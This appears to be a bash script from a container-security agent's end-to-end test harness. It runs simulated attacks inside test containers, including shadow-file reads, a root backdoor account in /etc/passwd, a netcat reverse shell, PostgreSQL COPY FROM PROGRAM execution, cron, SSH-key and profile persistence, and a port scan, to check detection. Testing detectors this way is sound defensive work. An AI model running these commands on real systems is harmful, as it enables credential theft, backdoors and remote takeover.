# shellcheck shell=bash
# Driftwatch e2e: the attack techniques (sourced by run.sh after learning).
#
# run_attack TECHNIQUE WORKLOAD runs one technique inside the workload's container and appends
# one line to attacks.jsonl: when it started and ended (host clock, ms), how it was delivered,
# whether it demonstrably executed (and the proof), and which deviation would be the precise
# signal (expect_kinds / expect_value regex) — report.sh matches those against the agent's
# deviation records.
#
# Delivery ("via"):
#   channel  the exploit simulation channel: a child of the service process runs the command
#            (see write_entrypoint in lib.sh and docs/detection.md)
#   service  the service itself does it, driven by a client in the peer namespace
#            (PostgreSQL COPY ... FROM PROGRAM, a superuser feature abused by real attacks)
# Every network target is the harness's peer namespace (10.200.N.1) or the container itself.

ATTACK_SEQ=0

# host-side proof helpers
in_rootfs() { printf '%s/%s' "${CTR_ROOTFS[$1]}" "${2#/}"; }
in_proc_root() { printf '/proc/%s/root/%s' "${CTR_PID[$1]}" "${2#/}"; }

run_attack() {
  local tech="$1" svc="$2" id out rc=0 t0 t1 executed=false proof="" outcome="" via=channel
  local kinds="" re="" peer="${PEER_IP[$2]}" ip="${CTR_IP[$2]}" lpid=""
  ATTACK_SEQ=$((ATTACK_SEQ + 1))
  id="a$ATTACK_SEQ-$tech"
  case "$tech" in
    shell_spawn) # an interactive-style shell (/bin/sh is dash; the container's init uses busybox)
      kinds="exec"; re='/(da|ba|z|k)?sh$'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 '/bin/sh -c '"'"'echo DWE-PROOF shell pid=$$ exe=$(readlink /proc/$$/exe) parent=$(readlink /proc/$PPID/exe)'"'")" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF shell .*exe=/usr/bin/dash' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    shell_spawn_service) # the database server itself spawns a shell: COPY ... FROM PROGRAM
      via=service; kinds="exec"; re='/(da|ba)?sh$'
      t0=$(now_ms)
      out="$(in_peer timeout 20 "$PG_BIN/psql" -h "$ip" -U postgres -Atq -v ON_ERROR_STOP=1 \
        -c "CREATE TEMP TABLE dwe_x(l text)" \
        -c "COPY dwe_x FROM PROGRAM 'echo DWE-PROOF shell_spawn_service \$(id -un) \$(readlink /proc/\$PPID/exe)'" \
        -c "SELECT l FROM dwe_x" 2>&1)" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF shell_spawn_service postgres' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    shadow_direct)
      kinds="file"; re='^/etc/shadow$'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'cat /etc/shadow | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo')" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    shadow_traversal) # the agent makes paths lexical: reported where the read lands
      kinds="file"; re='^/etc/shadow$'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 "cat $(traversal_base "$svc")/../../../etc/shadow"' | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo')" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    shadow_hardlink) # same inode under an innocent name; the opened path never says "shadow"
      kinds="file"; re='shadow|/var/tmp/\.cache-s'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'ln /etc/shadow /var/tmp/.cache-s && cat /var/tmp/.cache-s | cut -d: -f1 | tr "\n" " " | sed "s/^/DWE-PROOF users: /"; echo; rm -f /var/tmp/.cache-s')" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF users: root' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    write_etc) # a backdoor account
      kinds="file"; re='^/etc/'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'echo "dwe-backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd && echo DWE-PROOF appended')" || rc=$?
      t1=$(now_ms)
      grep -q '^dwe-backdoor:x:0:0' "$(in_rootfs "$svc" /etc/passwd)" && executed=true
      proof="/etc/passwd line: $(grep -m1 '^dwe-backdoor' "$(in_rootfs "$svc" /etc/passwd)" || true)" ;;
    write_bin) # /bin is the host's /usr/bin, bound read-only: the kernel refuses the write
      kinds="file"; re='^/(usr/)?s?bin/'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/id /bin/dwe-tool; echo DWE-PROOF cp-exit=$?')" || rc=$?
      t1=$(now_ms)
      if grep -q 'Read-only file system' <<<"$out"; then
        executed=true; outcome="attempted; refused by the read-only /usr bind mount (EROFS)"
      elif [ -e "$(in_rootfs "$svc" /usr/bin/dwe-tool)" ] || [ -e "$(in_proc_root "$svc" /bin/dwe-tool)" ]; then
        executed=true; outcome="written"
      fi
      proof="$(tr '\n' ' ' <<<"$out" | cut -c1-200)" ;;
    write_root)
      kinds="file"; re='^/root/'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'echo "nohup /var/tmp/.kworker >/dev/null 2>&1 &" >> /root/.profile && echo DWE-PROOF appended')" || rc=$?
      t1=$(now_ms)
      grep -q 'kworker' "$(in_rootfs "$svc" /root/.profile)" && executed=true
      proof="/root/.profile: $(tail -1 "$(in_rootfs "$svc" /root/.profile)")" ;;
    drop_exec) # a new binary (a copy of id under a new name) written to disk and run
      kinds="exec"; re='^/var/tmp/\.kworker'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/id /var/tmp/.kworker && chmod 755 /var/tmp/.kworker && /var/tmp/.kworker > /var/tmp/.kworker.out && echo DWE-PROOF ran')" || rc=$?
      t1=$(now_ms)
      grep -q '^uid=0(root)' "$(in_rootfs "$svc" /var/tmp/.kworker.out)" 2>/dev/null && executed=true
      proof="marker /var/tmp/.kworker.out: $(head -c 120 "$(in_rootfs "$svc" /var/tmp/.kworker.out)" 2>/dev/null)" ;;
    exec_devshm)
      kinds="exec"; re='^/dev/shm/'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/uname /dev/shm/.s && chmod 755 /dev/shm/.s && /dev/shm/.s -n | sed "s/^/DWE-PROOF ran: /"')" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF ran: ' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    exec_tmp)
      kinds="exec"; re='^/tmp/'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'cp /usr/bin/whoami /tmp/.t && chmod 755 /tmp/.t && /tmp/.t | sed "s/^/DWE-PROOF ran: /"')" || rc=$?
      t1=$(now_ms)
      grep -q '^DWE-PROOF ran: root' <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    reverse_shell) # busybox nc -e /bin/sh to a listener in the peer namespace
      kinds="connect"; re="$peer:4444"
      printf 'echo DWE-PROOF reverse_shell $(id -un)@$(cat /etc/hostname)\nexit\n' > "$RUN/revshell.in"
      bg_start lpid sh -c "exec ip netns exec '$PEERNS' timeout 30 nc -N -l '$peer' 4444 < '$RUN/revshell.in' > '$RUN/revshell.out' 2>&1"
      wait_listen "$PEERNS" "$peer" 4444 10 || log "warning: reverse-shell listener not up"
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 25 "/usr/bin/busybox nc $peer 4444 -e /bin/sh")" || rc=$?
      t1=$(now_ms)
      stop_pid "$lpid" 2
      grep -q '^DWE-PROOF reverse_shell root@' "$RUN/revshell.out" && executed=true
      proof="peer listener received: $(grep -m1 DWE-PROOF "$RUN/revshell.out" || true)" ;;
    new_listen) # a listener on a port the service never used, proven by connecting from the peer
      kinds="listen"; re='31337'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 '(timeout 15 /usr/bin/busybox nc -l -p 31337 </dev/null >/dev/null 2>&1 &); echo DWE-PROOF started')" || rc=$?
      t1=$(now_ms)
      local i
      for ((i = 0; i < 30; i++)); do
        if in_peer nc -z -w 1 "$ip" 31337 2>/dev/null; then executed=true; proof="peer connected to $ip:31337"; break; fi
        sleep 0.2
      done ;;
    cron_persist)
      kinds="file"; re='^/var/spool/cron|^/etc/cron'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'echo "* * * * * /var/tmp/.kworker" | /usr/bin/busybox crontab - && echo DWE-PROOF installed')" || rc=$?
      t1=$(now_ms)
      grep -q kworker "$(in_rootfs "$svc" /var/spool/cron/crontabs/root)" 2>/dev/null && executed=true
      proof="crontab: $(cat "$(in_rootfs "$svc" /var/spool/cron/crontabs/root)" 2>/dev/null)" ;;
    ssh_key)
      kinds="file"; re='^/root/\.ssh'
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 20 'mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGR3ZS1lMmUtbm90LWEtcmVhbC1rZXktanVzdC1hLXRlc3Q attacker@dwe" >> /root/.ssh/authorized_keys && echo DWE-PROOF added')" || rc=$?
      t1=$(now_ms)
      grep -q 'attacker@dwe' "$(in_rootfs "$svc" /root/.ssh/authorized_keys)" 2>/dev/null && executed=true
      proof="authorized_keys: $(cut -c1-40 "$(in_rootfs "$svc" /root/.ssh/authorized_keys)" 2>/dev/null)..." ;;
    port_scan) # nc -z over ports 1-1024 of the peer; the peer listens on 22 as a decoy
      kinds="connect"; re="$peer:"
      bg_start lpid sh -c "exec ip netns exec '$PEERNS' timeout 40 nc -k -l '$peer' 22 >/dev/null 2>&1"
      wait_listen "$PEERNS" "$peer" 22 10 || log "warning: decoy listener not up"
      t0=$(now_ms)
      out="$(chan_run "$svc" "$id" 30 "/usr/bin/nc -z -v -w 1 $peer 1-1024 2>&1 | grep succeeded | sed 's/^/DWE-PROOF /'")" || rc=$?
      t1=$(now_ms)
      stop_pid "$lpid" 2
      grep -q "^DWE-PROOF .* 22 port" <<<"$out" && executed=true
      proof="$(grep -m1 DWE-PROOF <<<"$out" || true)" ;;
    *) die "unknown technique $tech" ;;
  esac
  [ -n "$outcome" ] || outcome="$([ "$executed" = true ] && echo executed || echo "not executed (exit $rc)")"
  printf '%s\n' "$out" > "$RUN/logs/attack-$id.out"
  record attacks "$(jq -cn --arg t "$tech" --arg w "$svc" --arg c "${CTR_ID[$svc]}" --arg via "$via" \
    --argjson t0 "$t0" --argjson t1 "$t1" --argjson rc "$rc" --argjson ex "$executed" --arg proof "$proof" \
    --arg outcome "$outcome" --arg kinds "$kinds" --arg re "$re" --arg pod "${CTR_POD[$svc]}" --arg cname "${CTR_NAME[$svc]}" \
    '{technique: $t, workload: $w, container_id: $c, pod: $pod, container: $cname, via: $via,
      start_ms: $t0, end_ms: $t1, rc: $rc, executed: $ex, outcome: $outcome, proof: $proof,
      expect_kinds: ($kinds | split(" ")), expect_value: $re}')"
  log "attack $tech in $svc: $outcome${proof:+ — ${proof:0:100}}"
}

traversal_base() { # a directory three levels deep that the service serves or owns
  case "$1" in nginx) echo /var/www/html ;; redis) echo /var/lib/redis ;; postgres) echo /var/lib/postgresql ;; esac
}

wait_listen() { # wait_listen NETNS ADDR PORT TIMEOUT_S
  local end=$((SECONDS + $4))
  while ((SECONDS < end)); do
    ip netns exec "$1" ss -Hltn "sport = :$3" | grep -q "$2:$3" && return 0
    sleep 0.1
  done
  return 1
}
